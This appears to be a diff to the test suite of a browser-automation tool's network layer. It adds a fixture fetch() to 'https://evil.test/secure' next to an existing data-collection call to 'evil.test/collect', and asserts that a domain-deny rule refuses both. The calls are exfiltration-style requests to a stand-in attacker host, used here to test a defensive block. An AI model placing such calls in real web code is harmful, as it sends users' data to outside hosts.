@@ -38,6 +38,7 @@ console.debug("debug detail");
 fetch("/api/items", {{method: "POST", body: "q=shoes"}}).then(r => r.text());
 function send() {{
   fetch("http://evil.test/collect?d=1").catch(() => console.log("collect failed"));
+  fetch("https://evil.test/secure").catch(() => {{}});
   out.textContent = "sent";
 }}
 setTimeout(() => {{ throw new Error("boom") }}, 0);
@@ -151,6 +152,9 @@ async def test_console_and_network_through_the_network_layer(site: LocalSite, tm
         refused = next(line for line in data.splitlines() if "evil.test/collect" in line)
         assert refused.startswith("[GET] http://evil.test/collect?d=1 => "), refused  # 403, CORS-failed
         assert "REFUSED by pagewarden's network layer (NO-EVIL, rule domain_deny)" in refused
+        # https: the layer refuses the connection itself (a CONNECT names no path): matched by host
+        tunnel = next(line for line in data.splitlines() if "https://evil.test/secure" in line)
+        assert "REFUSED by pagewarden's network layer (NO-EVIL" in tunnel, tunnel
         assert "logo.png" not in data  # a successful static resource, as Playwright MCP leaves it out
         full = _fenced(
             text_of(
